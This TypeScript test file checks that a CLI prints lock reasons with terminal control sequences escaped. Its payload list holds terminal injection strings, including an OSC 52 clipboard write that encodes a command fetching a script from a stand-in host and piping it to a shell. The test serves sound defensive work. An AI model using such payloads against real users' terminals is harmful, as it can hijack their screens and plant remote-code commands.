/**
 * Hostile input: terminal control sequences in a lock's reason. Anyone who can take a lock (a
 * teammate, a CI job whose reason is a branch name) writes text that `sst-state locks`, `status`
 * and `unlock` print on other people's terminals. Raw, an ESC sequence there sets the window's
 * title, writes the clipboard (OSC 52), clears the screen or hides text; CR and BS overwrite a line;
 * the bidirectional controls make it read in another order. The CLI, run as a user runs it (its own
 * process, stdout a pipe), must print each such character as its JSON escape (packages/cli/output.ts
 * `forTerminal`), and --json must still give the reason exactly as it was written.
 */
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { generateHome } from "@sst-state/core/state/generate-home";
import { writeLocalHome } from "@sst-state/adapters/home-writer";
import { runBin, tempDir } from "../helpers.ts";
import { createTally } from "./tally.ts";

const PAYLOADS = [
  "title \u001b]0;pwned\u0007",
  "clipboard \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
  "clear \u001b[2J\u001b[H",
  "hidden \u001b[8msecret\u001b[28m",
  "csi \u009b2J",
  "overwrite safe\rDANGER\b\b",
  "reorder \u202Etxt.exe\u202C \u2066x\u2069",
];
// what must not reach the terminal raw (core/text/controls.ts), tab and newline aside
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

let cwd = "";
let env: NodeJS.ProcessEnv = {};
beforeAll(async () => {
  cwd = tempDir("sst-state-hostile-terminal-");
  await writeLocalHome(join(cwd, "home"), generateHome({ app: "shop", seed: 4, stages: [{ name: "prod", resources: 8, deploys: 1 }] }).files);
  env = { SST_STATE_HOME: "local", SST_STATE_DIR: join(cwd, "home"), NO_COLOR: "1" };
});

describe("hostile: terminal control sequences", () => {
  it("prints a planted reason with every control character escaped, in locks, status, a refused lock and unlock, and --json keeps it exact", async () => {
    // Prepare
    const tally = createTally("terminal escapes (CLI)");
    for (const reason of PAYLOADS) {
      const taken = await runBin(["lock", "shop/prod", "--reason", reason], { env, cwd });
      // Act
      const runs = [
        taken,
        await runBin(["locks"], { env, cwd }),
        await runBin(["status", "shop/prod"], { env, cwd }),
        await runBin(["lock", "shop/prod", "--reason", "mine", "--holder", "someone-else"], { env, cwd }),
        await runBin(["unlock", "shop/prod", "--force", "--reason", reason], { env, cwd }),
      ];
      const json = await runBin(["lock", "shop/prod", "--reason", reason, "--json"], { env, cwd });
      await runBin(["unlock", "shop/prod"], { env, cwd });
      // Assess (each command a try)
      for (const [i, r] of runs.entries()) {
        // the reason is shown (its first word), with its controls as escapes, and nothing raw
        const printed = r.stdout + r.stderr;
        const held = printed.includes(reason.split(" ")[0]!) && /\\u[0-9a-f]{4}/.test(printed) && !RAW.test(printed);
        tally.record(held, `${JSON.stringify(reason)} run ${i}: ${JSON.stringify(printed.slice(0, 200))}`);
      }
      const asJson = JSON.parse(json.stdout) as { lock?: { reason?: string } };
      tally.record(json.code === 0 && asJson.lock?.reason === reason, `--json of ${JSON.stringify(reason)}: ${json.stdout.slice(0, 160)}`);
    }
    tally.report();
    // Assess
    expect(tally.lost).toEqual([]);
    expect(tally.tries).toBe(PAYLOADS.length * 6);
  }, 120_000);
});
